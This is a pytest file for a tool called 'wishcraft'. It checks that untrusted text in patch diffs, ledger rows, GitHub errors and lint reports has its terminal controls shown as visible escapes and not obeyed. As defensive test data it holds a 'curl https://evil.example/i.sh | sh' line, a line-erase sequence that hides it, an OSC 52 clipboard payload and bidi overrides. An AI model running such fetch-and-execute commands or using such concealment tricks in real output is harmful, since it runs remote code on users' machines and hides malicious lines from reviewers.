"""What the terminal shows of untrusted text: controls made visible, never obeyed.

A model's patch is run through the real `wishcraft apply --dry-run` (a subprocess against the
loopback Codex server), and the diff under review is read as bytes: no byte that a terminal
acts on (ESC, CR, C1, bidi controls) reaches stdout, and the line the attack tried to hide is
printed where a reader sees it.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from testkit.apply_ws import make_workspace, read_then_patch
from testkit.codex_home import write_codex_home
from testkit.loopback import LoopbackCodex
from wishcraft.visible import visible

CURL = "curl https://evil.example/i.sh | sh"
ERASE = "\x1b[2K\r"
"""CSI 2K (erase the line) and a carriage return: what follows overwrites the curl line."""
OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
"""OSC 52: write `curl evil | sh` to the clipboard of whoever reads the diff."""
BIDI = "\u202e\u2066"
TERMINAL_BYTES = ("\x1b", "\r", "\x07", "\x9b", "\u202e", "\u2066")


def run_dry(tmp_path: Path, codex: LoopbackCodex, patch: str) -> subprocess.CompletedProcess[str]:
    root = tmp_path / "ws"
    make_workspace(root)
    home = write_codex_home(tmp_path / "home")
    codex.enqueue("responses", *read_then_patch(patch))
    env = {
        **os.environ,
        "CODEX_HOME": str(home),
        "CHATGPT_BASE_URL": codex.base_url,
        "CODEX_REFRESH_TOKEN_URL_OVERRIDE": codex.refresh_url,
    }
    return subprocess.run(
        [sys.executable, "-m", "wishcraft.cli", "apply", "data/wishes/lamps.wish.yaml"]
        + ["--dry-run"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        cwd=root,
        stdin=subprocess.DEVNULL,
    )


def test_an_erased_curl_line_shows_in_the_dry_run_diff(
    tmp_path: Path, codex: LoopbackCodex
) -> None:
    hidden = f"{CURL}{ERASE}# tidy the lamps"
    patch = (
        "*** Begin Patch\n*** Add File: src/setup.sh\n"
        f"+echo lamps\n+{hidden}\n+{OSC52}echo done{BIDI}\n*** End Patch\n"
    )
    done = run_dry(tmp_path, codex, patch)
    assert done.returncode == 0, done.stderr
    for char in TERMINAL_BYTES:
        assert char not in done.stdout and char not in done.stderr
    shown = [line for line in done.stdout.splitlines() if CURL in line]
    assert shown == [f"+{CURL}\\x1b[2K\\r# tidy the lamps"]
    assert "+\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07echo done\\u202e\\u2066" in done.stdout
    assert "@@ -0,0 +1,3 @@" in done.stdout  # the summary's 3 lines are the 3 lines shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain\ttext\nline two", "plain\ttext\nline two"),
        (ERASE, "\\x1b[2K\\r"),
        (OSC52, "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"),
        ("\x1b]52;c;AA==\x1b\\", "\\x1b]52;c;AA==\\x1b\\"),
        ("\x9b2K", "\\x9b2K"),
        ("a\u202eb\u202ac\u2066d\u2069e", "a\\u202eb\\u202ac\\u2066d\\u2069e"),
        ("\u200e\u200f\u061c", "\\u200e\\u200f\\u061c"),
        ("\x00\x7f\x08", "\\x00\\x7f\\b"),
        ("caf\u00e9 \u6f22\u5b57 \U0001f600", "caf\u00e9 \u6f22\u5b57 \U0001f600"),
    ],
    ids=[
        "newline-tab-kept",
        "csi-erase",
        "osc52-bel",
        "osc52-st",
        "c1-csi",
        "bidi",
        "marks",
        "c0-del",
        "unicode-kept",
    ],
)
def test_visible_shows_every_control_and_keeps_text(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_one_line_values_show_newlines_too() -> None:
    assert visible("src/a\nb.py\t", multiline=False) == "src/a\\nb.py\\t"


def test_ledger_rows_show_controls_and_stay_one_row_each(tmp_path: Path) -> None:
    """A model name from the network, stored on the ledger, with an erase and a newline: the
    table shows both as escapes, and the row stays one line."""
    from wishcraft.ledger import LedgerEntry, append

    root = tmp_path / "ws"
    make_workspace(root)
    ledger = root / "data" / "ledger" / "wishes.jsonl"
    append(
        ledger,
        LedgerEntry(
            conduit="openai.codex.v2025.plan",
            action="plan",
            mode="commit",
            wish="data/wishes/lamps.wish.yaml",
            outcome="complete",
            model=f"gpt{ERASE}\n2026-01-01 fake row{OSC52}",
        ),
    )
    done = subprocess.run(
        [sys.executable, "-m", "wishcraft.cli", "ledger", "--ledger", str(ledger)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=root,
    )
    assert done.returncode == 0, done.stderr
    header, row = done.stdout.splitlines()
    assert "gpt\\x1b[2K\\r\\n2026-01-01 fake row\\x1b]52;c;" in row
    for char in TERMINAL_BYTES:
        assert char not in done.stdout


def test_githubs_error_text_is_shown_not_obeyed(tmp_path: Path) -> None:
    """GitHub's answer to the pull request, with an OSC 52 clipboard write and a bidi override
    in its message: `wishcraft pr` prints it made visible."""
    from testkit.github import Answer, LoopbackGitHub
    from testkit.pr_repo import make_scenario
    from testkit.pr_wish import write_wish

    with LoopbackGitHub() as github:
        scenario = make_scenario(tmp_path, github.base_url)
        write_wish(scenario)
        github.enqueue(Answer(422, {"message": f"Validation Failed{OSC52}\u202eexe.tab"}))
        done = subprocess.run(
            [sys.executable, "-m", "wishcraft.cli", "pr", scenario.anchor.anchor_id],
            env=scenario.env,
            cwd=scenario.work,
            capture_output=True,
            text=True,
            timeout=120,
            stdin=subprocess.DEVNULL,
        )
    assert done.returncode == 1, done.stderr
    assert "Validation Failed\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\u202eexe.tab" in done.stderr
    for char in TERMINAL_BYTES:
        assert char not in done.stderr + done.stdout


@pytest.mark.parametrize("report", ["json", "sarif"])
def test_lint_reports_for_scripts_stay_json_with_controls_in_the_wish(
    tmp_path: Path, report: str
) -> None:
    """A wish whose unknown key holds a C1 control (NEL), CSI, an erase and a bidi override:
    `lint --format json|sarif` is still one JSON document (every such character a JSON escape,
    no raw byte a terminal acts on), and the key reads back exactly as written."""
    import json

    root = tmp_path / "ws"
    make_workspace(root)
    wish = root / "data" / "wishes" / "lamps.wish.yaml"
    key = f"x\x85y\x9bz{ERASE.strip()}{BIDI}k"
    escaped = r"x\Ny\x9bz\e[2K\u202e\u2066k"  # the same key, as YAML escapes it
    wish.write_text(wish.read_text() + f'"{escaped}": 1\n')
    done = subprocess.run(
        [sys.executable, "-m", "wishcraft.cli", "lint", "--format", report, str(wish)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=root,
    )
    assert done.returncode in (0, 1), done.stderr
    for char in (*TERMINAL_BYTES, "\x85"):
        assert char not in done.stdout
    document = json.loads(done.stdout)
    messages = [
        result["message"]["text"] if report == "sarif" else result["message"]
        for result in (
            document["runs"][0]["results"] if report == "sarif" else document["findings"]
        )
    ]
    assert any(f"`{key}`" in message for message in messages), messages
